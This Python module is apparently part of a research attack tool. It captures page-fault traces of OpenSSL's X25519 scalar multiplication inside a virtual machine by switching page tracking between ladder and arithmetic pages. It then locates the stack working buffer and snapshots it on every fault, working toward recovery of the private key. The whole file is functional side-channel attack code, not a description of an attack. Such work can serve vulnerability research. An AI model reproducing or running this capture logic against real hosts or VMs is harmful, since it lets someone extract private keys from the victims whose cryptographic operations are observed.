"""Live capture for the X25519 (OpenSSL montgomery ladder) attack.

Tracking toggles between the ladder page and the field arithmetic page. After
``ignore_cycles`` hits on the ladder page all pages are access tracked for one
ladder step; the last foreign page faulting in that step is the working
buffer. From then on the buffer is snapshot on every fault of either page.
"""

from __future__ import annotations

import logging
from typing import TextIO

from pagefault_cracker.core.capture import CaptureSession
from pagefault_cracker.core.trace import format_event
from pagefault_cracker.core.tracker import CheckedTracker
from pagefault_cracker.utils.constants import ECDH_IGNORE_CYCLES, PROGRESS_INTERVAL_S
from pagefault_cracker.utils.errors import CaptureError
from pagefault_cracker.utils.types import (
    CaptureResult,
    EcdhAttackConfig,
    FaultEvent,
    TrackMode,
)

logger = logging.getLogger(__name__)


class EcdhCapture(CaptureSession):
    """Toggle-tracking capture of one X25519 scalar multiplication."""

    def __init__(
        self,
        tracker: CheckedTracker,
        base_gpa: int,
        fe64_gpa: int,
        ignore_cycles: int = ECDH_IGNORE_CYCLES,
        tracking_mode: TrackMode = TrackMode.EXEC,
        cpu: int = -1,
        flush_caches: bool = True,
        sink: TextIO | None = None,
        progress_interval: float = PROGRESS_INTERVAL_S,
    ) -> None:
        super().__init__(tracker, progress_interval)
        self.base_gpa = base_gpa
        self.fe64_gpa = fe64_gpa
        self.ignore_cycles = ignore_cycles
        self.tracking_mode = tracking_mode
        self.cleanup_mode = tracking_mode
        self.cpu = cpu
        self.flush_caches = flush_caches
        self.sink = sink

        self.base_hits = 0
        self.in_cycle = False
        self.cycle_log: list[int] = []
        self.stack_buf_gpa: int | None = None

    def arm(self) -> None:
        logger.info("tracking start page 0x%016x", self.base_gpa)
        self.tracker.track_page(self.base_gpa, self.tracking_mode)

    def handle_event(self, event: FaultEvent) -> None:
        gpa = event.faulted_gpa
        if gpa in (self.base_gpa, self.fe64_gpa):
            if self.stack_buf_gpa is not None:
                event.attach_snapshot(
                    self.stack_buf_gpa,
                    self.tracker.read_page(self.stack_buf_gpa, self.flush_caches, self.cpu),
                )
            self.events.append(event)
            if self.sink is not None:
                self.sink.write(format_event(event) + "\n")

        if gpa == self.base_gpa:
            if self.base_hits == self.ignore_cycles + 1:
                self._close_access_window()
            self.tracker.track_page(self.fe64_gpa, self.tracking_mode)
            if self.base_hits == self.ignore_cycles:
                self.tracker.track_all_pages(TrackMode.ACCESS)
                self.in_cycle = True
            self.base_hits += 1
        elif gpa == self.fe64_gpa:
            self.tracker.track_page(self.base_gpa, self.tracking_mode)
        elif self.in_cycle:
            self.cycle_log.append(gpa)

        self.tracker.ack_event()

    def _close_access_window(self) -> None:
        if not self.cycle_log:
            raise CaptureError("no foreign page faulted during the access window")
        self.in_cycle = False
        self.stack_buf_gpa = self.cycle_log[-1]
        logger.info("working buffer is at 0x%x", self.stack_buf_gpa)

    def finish(self, payload: bytes) -> CaptureResult:
        logger.info("processed %d events", len(self.events))
        if self.stack_buf_gpa is None:
            raise CaptureError("did not find the working buffer page")
        return CaptureResult(
            events=self.events,
            stack_buf_gpa=self.stack_buf_gpa,
            payload=payload,
        )

    def attack_config(self) -> EcdhAttackConfig:
        if self.stack_buf_gpa is None:
            raise CaptureError("did not find the working buffer page")
        return EcdhAttackConfig(
            base_gpa=self.base_gpa,
            fe64_gpa=self.fe64_gpa,
            stack_buf_gpa=self.stack_buf_gpa,
        )
